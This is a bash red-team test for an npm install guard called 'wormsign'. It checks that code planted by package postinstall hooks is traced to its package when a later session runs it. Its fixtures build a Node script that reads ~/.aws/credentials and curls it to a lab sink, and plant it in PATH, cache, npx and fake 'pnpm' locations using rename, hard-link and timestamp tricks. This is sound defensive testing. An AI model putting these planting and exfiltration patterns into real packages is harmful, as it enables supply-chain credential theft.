#!/bin/bash
# R54: dependencies that only leave code where a later session runs it: as the project, as a program
# found by PATH, as a package manager. That session says which package put it there and when, and
# judges it as that package's. What somebody else has put in its place since is nobody's.
set -u
cd "$(dirname "$0")/../.." || exit 2
. tests/redteam/lib.sh

rt_begin R54 'code that a package left, and a later session runs'
RT_HONEST=(ms) RT_SCRIPTED=()
STATE=/var/lib/wormsign
LOOT=.aws/credentials
js() { # NAME
	printf "#!/usr/bin/env node\nrequire('child_process').execFileSync('curl', ['-s', \
'--data-binary', require('fs').readFileSync('%s'), 'http://%s/%s'])" "$RT_HOME/$LOOT" "$RT_SINK" \
"$1"
}
USES=()
# plants NAME SCRIPT USE: SCRIPT plants the package's file `code`, the later session does USE.
plants() {
	mkdir -p "$LAB/packages/$1" && js "$1" >"$LAB/packages/$1/code" &&
		chmod 755 "$LAB/packages/$1/code"
	rt_package "$1" 1.0.0 - postinstall "$2"
	USES+=("$3")
}
plants path-s 'mkdir -p ~/.path-s/bin && cp code ~/.path-s/bin/greet' \
	'PATH=$HOME/.path-s/bin:$PATH greet'
plants cache-s 'mkdir -p ~/.cache/cs && cp code ~/.cache/cs/env.js' 'node ~/.cache/cs/env.js'
plants renamed-s 'd=~/.cache/rs.tmp && mkdir -p $d/a && cp code $d/a/1.tmp &&
	mv $d/a/1.tmp $d/a/run.js && mv $d ~/.cache/rs' 'node ~/.cache/rs/a/run.js'
plants moved-s 'mkdir d && cp code d/main.js && mv d ~/.cache/ms' \
	'node ~/.cache/ms/main'
plants linked-s 'mkdir -p ~/.cache/ls && ln code ~/.cache/ls/l.js' \
	'node -r ~/.cache/ls/l.js -e 0'
plants manager-s 'mkdir -p ~/.manager-s && cp code ~/.manager-s/pnpm' \
	'PATH=$HOME/.manager-s:$PATH pnpm install'
plants npx-s 'd=~/.npm/_npx/0123456789abcdef/node_modules/t && mkdir -p $d && cp code $d/t.js' \
	'sh -c "exec ~/.npm/_npx/0123456789abcdef/node_modules/t/t.js"'
plants temporary-s "cp code /tmp/${LAB##*/}-s.js" "node /tmp/${LAB##*/}-s.js"
# These come back in the later session before their code is run.
plants touched-s 'd=~/.cache/ts; [ -e $d/t.js ] && { chmod 700 $d/t.js
	node -e "fs.utimesSync(process.argv[1], 1, 1)" $d/t.js; exit; }
	mkdir -p $d && cp code $d/t.js' 'node ~/.cache/ts/t.js'
plants again-s 'd=~/.cache/as; [ -e $d/t.js ] && { mv $d/t.js $d/u.js; ln $d/u.js $d/t.js; exit; }
	mkdir -p $d && cp code $d/t.js' 'node ~/.cache/as/t.js'
names=$(printf '%s\n' "${RT_ATTACKERS[@]%% *}" | sort)
# Honest in the end: another program takes the place before the later session.
plants inplace-h 'mkdir -p ~/.inplace-h/bin && cp code ~/.inplace-h/bin/first' \
	'PATH=$HOME/.inplace-h/bin:$PATH first'
plants newfile-h 'mkdir -p ~/.newfile-h/bin && cp code ~/.newfile-h/bin/second' \
	'PATH=$HOME/.newfile-h/bin:$PATH second'

rt_setup() {
	rm -rf /tmp/"${LAB##*/}"-s.js
	printf '%s\n' "${USES[@]}" >"$LAB/uses"
	lab_as_user "$RT_PROJECT" sh -c 'sed "s/.*/( & )/" >use.sh' <"$LAB/uses"
}
# What the user does between the two.
between() {
	lab_as_user "$RT_PROJECT" sh -c 'cat >~/.inplace-h/bin/first' <<<"$(js first)"
	lab_as_user "$RT_PROJECT" sh -c '
		cat >~/.newfile-h/bin/.s && chmod 755 ~/.newfile-h/bin/.s &&
		mv ~/.newfile-h/bin/.s ~/.newfile-h/bin/second' <<<"$(js second)"
	jq --arg event "$1" '.scripts = {($event): "sh use.sh; true"}' \
		"$RT_PROJECT/package.json" >"$LAB/p.json" &&
		cat "$LAB/p.json" >"$RT_PROJECT/package.json"
	lab_sink_reset web
}
taken() { rt_requests | grep -o '/[a-z]*\(-[sh]\)\?$' | tr -d / | sort -u; }
again() { # LANE COMMAND...
	RT_LANE=wormsign-$1 RT_LOG=$LAB/log.$1
	shift
	lab_under_wormsign "$RT_PROJECT" "$RT_LOG" "$@" >"$LAB/out.$RT_LANE" 2>&1
	RT_STATUS=$?
}

rt_control
between prepare
lab_as_user "$RT_PROJECT" npm install >/dev/null 2>&1
rt_is 'the code of each was run' "$(taken)" "$(sort <<<"$names
first
second")"

first() { # LANE EVENT
	rt_guarded "$1" || return
	FIRST=$(rt_events event.action=session-start | jq -r '."wormsign.session"')
	rt_is 'the first session: exit status' "$RT_STATUS" 0
	rt_is 'the first session: what got through' "$(taken)" ''
	rt_ok 'the list is written' [ -s "$STATE/written.json" ]
	between "$2"
}

# ---- While something is installed.
if first plant prepare; then
	again prepare sh -c 'npm rebuild touched-s again-s; npm install'
	rt_is 'exit status' "$RT_STATUS" 86
	rt_is 'what got through' "$(taken)" $'first\nsecond'
	for name in $names; do
		rt_ok "$name is accused" rt_events wormsign.verdict=kill package.name="$name" \
			package.version=1.0.0 'wormsign.effect~killed|refused'
		[[ $name == again-s ]] || # it has linked it in this session, too
			rt_ok "$name: put there in that session" rt_events package.name="$name" \
				wormsign.verdict=kill wormsign.origin_session="$FIRST"
	done
	rt_no_innocent_accused
	rt_ok 'the block says so' grep -q "STOPPED  path-s.*put there in session $FIRST" \
		"$LAB/out.$RT_LANE"
	rt_no_survivors

	# ---- In other scripts it is reported, but for a package manager; with --tools=enforce it
	# is stopped.
	between deploy
	again deploy npm run deploy
	rt_is 'exit status' "$RT_STATUS" 86
	rt_ok 'manager-s is stopped' rt_events package.name=manager-s wormsign.verdict=kill \
		'wormsign.effect~killed|refused'
	for name in ${names/manager-s/}; do
		rt_ok "$name is reported" rt_events package.name="$name" wormsign.verdict=kill \
			wormsign.flags=only-reported
	done
	rt_no_innocent_accused
	if [ -z "${LAB_BY_AGENT:-}" ]; then
		between deploy
		LAB_WORMSIGN_ARGS=--tools=enforce again enforce npm run deploy
		rt_is 'what got through' "$(taken)" $'first\nsecond'
	fi
	# ---- By the job itself, and as its package manager.
	between deploy
	again job sh -c 'PATH=$HOME/.path-s/bin:$PATH greet
		PATH=$HOME/.manager-s:$PATH pnpm install'
	rt_is 'exit status' "$RT_STATUS" 86
	for name in path-s manager-s; do
		rt_ok "$name is reported" rt_events package.name="$name" wormsign.verdict=kill \
			wormsign.origin_session="$FIRST"
	done
	rt_is 'what got through' "$(taken | grep -v -- -h)" path-s
fi

# ---- A list that cannot be believed: nothing is known, and that is said.
trouble() { # LANE TEXT
	echo 'node ~/.cache/cs/env.js' >"$LAB/uses"
	lab_as_user "$RT_PROJECT" sh -c 'cat >use.sh' <"$LAB/uses"
	between prepare
	again "$1" npm run prepare
	# an agent still has what it has read before
	[ -n "${LAB_BY_AGENT:-}" ] || rt_is 'exit status' "$RT_STATUS" 0
	rt_ok 'the session says that it does not know' rt_events event.action=session-end \
		wormsign.earlier.unread=true
	[ -n "${LAB_BY_AGENT:-}" ] || rt_ok 'and why' grep -q "$2" "$LAB/out.$RT_LANE"
	rt_ok 'the summary, too' grep -q 'earlier.*not known' "$LAB/out.$RT_LANE"
}
if [ -n "${RT_LOG:-}" ] && [ -z "${VMTEST:-}" ]; then
	printf '{"format": 1, "written": [{}]}\n' >"$STATE/written.json"
	trouble damaged 'written.json: /written/0: not an entry'
	printf '{"format": 1,\n "written": [\n' >"$STATE/written.json"
	trouble cut 'written.json:[0-9]*: '
	printf '{"format": 1, "written": []}\n' >"$STATE/written.json"
	chmod 666 "$STATE/written.json"
	trouble writable 'can be written by others'
	chmod 600 "$STATE/written.json" && chown "$LAB_UID" "$STATE/written.json"
	trouble foreign "belongs to uid $LAB_UID"
	chown 0 "$STATE/written.json"
fi
rm -f /tmp/"${LAB##*/}"-s.js
rt_end
